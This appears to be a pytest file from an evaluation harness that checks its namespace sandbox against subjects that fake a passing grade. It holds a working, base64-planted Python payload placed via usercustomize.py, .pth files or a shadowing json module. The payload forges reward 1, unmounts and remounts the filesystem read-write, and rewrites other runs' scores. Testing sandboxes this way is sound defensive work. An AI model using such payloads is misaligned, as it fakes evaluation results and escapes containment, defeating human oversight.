"""The verifier runs trusted code in a trusted environment, attacked for real in the
process sandbox (namespaces): a subject that does not do the task but plants code where
the verifier's Python, shell or tools would pick it up, so that reward 1 is written.

The task's verifier is an ordinary one: Python decides whether the subject did the work
(done.txt) and writes reward.json. Each subject below does not do the work; it plants
something, and the reward must stay 0. A planted payload that runs anyway (it should not)
also tries to undo the sandbox: unmount what hides the rest of the machine, remount
read-write, and rewrite another cell's record.
"""

from __future__ import annotations

import base64

import pytest

from maka_eval.engine.status import AttemptStatus
from maka_eval.store.run_store import read_run
from tests.attacks.sandboxes import NAMESPACES, PROCESS_SANDBOXES
from tests.helpers import spec

SANDBOX = "process sandbox (namespaces)"
"""Where these attacks run (bench/integrity_attacks.py prints it; a parameter naming
another sandbox, such as `policed`, says so in the test's id)."""
ATTACK_CLASS = "code planted for the verifier"

pytestmark = NAMESPACES


# The real verifier: Python (json, os) decides; reward 1 only if done.txt exists.
VERIFIER = """#!/bin/sh
python3 -c '
import json, os
done = os.path.exists("done.txt")
with open(os.environ["MAKA_EVAL_VERIFIER_LOGS_DIR"] + "/reward.json", "w") as f:
    json.dump({"reward": 1 if done else 0}, f)
'
"""

# What a planted payload does if it ever runs in the verifier: write reward 1 wherever
# the verifier's logs may be, then try to break out (lift every mount that hides
# something, remount the machine read-write) and rewrite every record it can find.
PAYLOAD = r"""
import json, os, subprocess
for d in [os.environ.get("MAKA_EVAL_VERIFIER_LOGS_DIR", ""), "/logs/verifier"]:
    try:
        with open(d + "/reward.json", "w") as f:
            json.dump({"reward": 1}, f)
    except OSError:
        pass
try:
    points = [line.split()[4] for line in open("/proc/self/mountinfo")]
    for point in reversed(points):
        subprocess.run(["umount", "-l", point], capture_output=True)
    subprocess.run(["mount", "-o", "remount,rw", "/"], capture_output=True)
except OSError:
    pass
for top in ("/tmp", "/work", "/home", "/root", "/srv", "/var/tmp"):
    for folder, dirs, files in os.walk(top):
        if folder.count("/") > 12:
            dirs[:] = []
        if os.path.basename(folder) != "attempts":
            continue
        for name in files:
            if name.endswith(".json"):
                try:
                    record = os.path.join(folder, name)
                    data = json.load(open(record))
                    data["result"]["score"] = 1.0
                    open(record, "w").write(json.dumps(data))
                except Exception:
                    pass
"""


def _plant(script: str) -> str:
    """A shell subject that writes PAYLOAD where `script` says ($P holds the payload)."""
    encoded = base64.b64encode(PAYLOAD.encode()).decode()
    return f'P="$(echo {encoded} | base64 -d)"\n' + script


USER_SITE = (
    "v=$(python3 -c \"import sys; print('%d.%d' % sys.version_info[:2])\");"
    'd="$HOME/.local/lib/python$v/site-packages"; mkdir -p "$d";'
)
ATTACKS = {
    # Python's user site-packages, in the subject's HOME (the verifier's HOME was the
    # subject's): Python imports them as it starts.
    "usercustomize.py in the user site": USER_SITE + 'printf "%s" "$P" > "$d/usercustomize.py"',
    "a .pth file in the user site": (
        USER_SITE + 'printf "%s" "$P" > "$d/zz_evil.py"; echo "import zz_evil" > "$d/zz.pth"'
    ),
    # The verifier starts in the workspace, and `python3 -c` puts it first on the path.
    "json.py in the workspace": 'printf "%s\\nfrom _json import *\\n" "$P" > json.py',
    "a json package in the workspace": 'mkdir json; printf "%s" "$P" > json/__init__.py',
    # Planted again and again after the subject exited, by a process it left running.
    "usercustomize.py planted by a process left behind": (
        USER_SITE + "( for i in $(seq 300); do "
        'printf "%s" "$P" > "$d/.u"; mv "$d/.u" "$d/usercustomize.py"; sleep 0.01; done )'
        " >/dev/null 2>&1 &"
    ),
    "json.py planted in the workspace by a process left behind": (
        '( for i in $(seq 300); do printf "%s" "$P" > .j; mv .j json.py; sleep 0.01; done )'
        " >/dev/null 2>&1 &"
    ),
}


@PROCESS_SANDBOXES
@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_code_planted_for_the_verifier_never_runs(setup, attack, executor):
    planter = {
        "id": "planter",
        "kind": "external",
        "config": {"command": "sh", "args": ["-c", _plant(ATTACKS[attack])]},
    }
    honest = {"id": "honest", "kind": "external", "config": {"command": "true"}}
    s = setup(
        spec(subjects=[honest, planter], executor=executor),
        {"t1": {"test_sh": VERIFIER}},
    )
    s.run()
    run = read_run(s.run_dir)
    record = run.attempts("t1::1::planter")[-1]
    assert record.status is AttemptStatus.COMPLETED, record.result.reason
    assert record.result.score == 0.0, attack
    # The other arm's record (written before or after) was not rewritten.
    other = run.attempts("t1::1::honest")[-1]
    assert other.result.score == 0.0
    raw = (s.run_dir / "cells").rglob("*.json")
    assert all(b'"score": 1.0' not in p.read_bytes() for p in raw)


@PROCESS_SANDBOXES
def test_the_verifier_holds_no_capability_to_undo_the_sandbox(setup, executor):
    """Whatever the verifier runs (here, the task's own test.sh, trusted, but it runs in
    what the subject left) has no capability the subject lacks: no mount, no setns."""
    probe = """#!/bin/sh
grep -E '^Cap(Eff|Bnd)' /proc/self/status > "$MAKA_EVAL_VERIFIER_LOGS_DIR/caps.txt"
umount -l /attempt/workspace 2>> "$MAKA_EVAL_VERIFIER_LOGS_DIR/caps.txt" \\
  && echo UNMOUNTED >> "$MAKA_EVAL_VERIFIER_LOGS_DIR/caps.txt"
mount -o remount,rw /usr 2>> "$MAKA_EVAL_VERIFIER_LOGS_DIR/caps.txt" \\
  && echo REMOUNTED >> "$MAKA_EVAL_VERIFIER_LOGS_DIR/caps.txt"
echo '{"reward": 0}' > "$MAKA_EVAL_VERIFIER_LOGS_DIR/reward.json"
cat "$MAKA_EVAL_VERIFIER_LOGS_DIR/caps.txt"
"""
    s = setup(
        spec(
            subjects=[{"id": "a", "kind": "external", "config": {"command": "true"}}],
            executor=executor,
        ),
        {"t1": {"test_sh": probe}},
    )
    s.run()
    record = read_run(s.run_dir).attempts("t1::1::a")[-1]
    from maka_eval.store.run_store import artifact_path

    said = artifact_path(s.run_dir, record, "verifier.stdout").read_text()
    assert "UNMOUNTED" not in said and "REMOUNTED" not in said
    bounding = int(said.split("CapBnd:")[1].split()[0], 16)
    cap_sys_admin, cap_mknod, cap_net_admin = 21, 27, 12
    for cap in (cap_sys_admin, cap_mknod, cap_net_admin):
        assert not bounding & (1 << cap), said
